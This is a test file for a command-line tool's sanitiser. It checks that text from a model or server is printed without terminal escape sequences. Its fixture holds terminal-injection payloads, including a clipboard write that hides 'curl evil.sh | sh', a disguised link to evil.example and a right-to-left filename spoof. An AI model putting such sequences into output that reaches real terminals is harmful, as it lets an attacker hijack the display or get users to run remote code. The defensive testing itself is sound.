import { afterEach, describe, expect, it, vi } from "vitest";
import { type FakeInkwellOptions, startFakeInkwell } from "#testkit/app/start-fake-inkwell.ts";
import { runCli } from "../../app/cli/main.ts";
import { terminalSafe, terminalSafeJson } from "../../app/cli/terminal-safe.ts";

/** What a hostile model or server would put in a job's text to take over the operator's terminal. */
const hostile = [
  "Done.\x1b[2J\x1b[H", // clear the screen, cursor home
  "\x1b]0;owned\x07", // set the window title
  "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07", // write the clipboard
  "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", // a hidden link
  "\x9b31m8-bit CSI", // the same through a C1 control
  "ok\rOVERWRITTEN", // a carriage return that rewrites the line
  "\u202etxt.exe", // right-to-left override
  "\x1bP+q544e\x1b\\", // a device control string
  "\x07\x08\x7f",
].join(" ");

/** Nothing a terminal would act on: no ESC, no C1, no lone CR, no bidi control, no BEL/BS/DEL. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
const terminalControl = /[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)/;

let server: Awaited<ReturnType<typeof startFakeInkwell>> | undefined;
afterEach(async () => {
  await server?.close();
  server = undefined;
});

async function inkwell(args: string[], options: FakeInkwellOptions) {
  server = await startFakeInkwell(options);
  const stdout: string[] = [];
  const stderr: string[] = [];
  vi.spyOn(process.stdout, "write").mockImplementation((chunk) => {
    stdout.push(String(chunk));
    return true;
  });
  vi.spyOn(process.stderr, "write").mockImplementation((chunk) => {
    stderr.push(String(chunk));
    return true;
  });
  const code = await runCli(args, {
    INKWELL_API_URL: server.url,
    INKWELL_API_KEY: server.apiKey,
    INKWELL_PROJECT_ID: "prj_docs",
  }).finally(() => vi.restoreAllMocks());
  return { code, stdout: stdout.join(""), stderr: stderr.join("") };
}

describe("what the CLI prints from outside", () => {
  it("prints a job whose summary and pull request title carry escape sequences without any control", async () => {
    const result = await inkwell(["job", "create", "--prompt", "Fix typos", "--wait"], {
      polls: [{ status: "completed", summary: hostile }],
    });

    expect(result.code).toBe(0);
    expect(result.stdout).toContain("Done.");
    expect(result.stdout).toContain("8-bit CSI");
    expect(result.stdout).toContain("OVERWRITTEN");
    expect(result.stdout).not.toMatch(terminalControl);
    expect(result.stderr).not.toMatch(terminalControl);
  });

  it("prints a failed job's error, which the model's provider may have written, without any control", async () => {
    const result = await inkwell(["job", "create", "--prompt", "Fix typos", "--wait"], {
      polls: [{ status: "failed", error: hostile }],
    });

    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^error: Job job_\w+ failed: Done\./);
    expect(result.stderr).not.toMatch(terminalControl);
  });

  it("prints the server's error message without any control", async () => {
    const result = await inkwell(["job", "create", "--prompt", "Fix typos"], {
      faults: { create: [{ status: 400, body: { error: hostile, code: "invalid_request" } }] },
    });

    expect(result.code).toBe(1);
    expect(result.stderr).toContain("Done.");
    expect(result.stderr).not.toMatch(terminalControl);
  });

  it("keeps --json output the same data, with the controls JSON leaves raw escaped", async () => {
    const result = await inkwell(["job", "create", "--prompt", "Fix typos", "--wait", "--json"], {
      polls: [{ status: "completed", summary: hostile }],
    });

    expect(result.code).toBe(0);
    expect(result.stdout).not.toMatch(terminalControl);
    expect((JSON.parse(result.stdout) as { summary: string }).summary).toBe(hostile);
  });
});

describe("terminalSafe", () => {
  it("keeps line feeds, tabs, CRLF line ends and ordinary Unicode", () => {
    expect(terminalSafe("a\tb\nc\r\nd — é 日本 🙂")).toBe("a\tb\nc\r\nd — é 日本 🙂");
  });

  it("removes whole escape sequences, even one cut off at the end", () => {
    expect(terminalSafe("a\x1b[31mred\x1b[0m b\x1b]0;title")).toBe("ared b");
    expect(terminalSafe("tail\x1b[")).toBe("tail");
  });

  it("shows the other controls as a replacement character", () => {
    expect(terminalSafe("ok\rno\u202e\x00")).toBe("ok\uFFFDno\uFFFD\uFFFD");
  });

  it("escapes in JSON what JSON.stringify leaves raw", () => {
    const json = terminalSafeJson({ text: "\x9b2J\u202e\x7f" });
    expect(json).toBe('{"text":"\\u009b2J\\u202e\\u007f"}');
    expect(JSON.parse(json)).toEqual({ text: "\x9b2J\u202e\x7f" });
  });
});
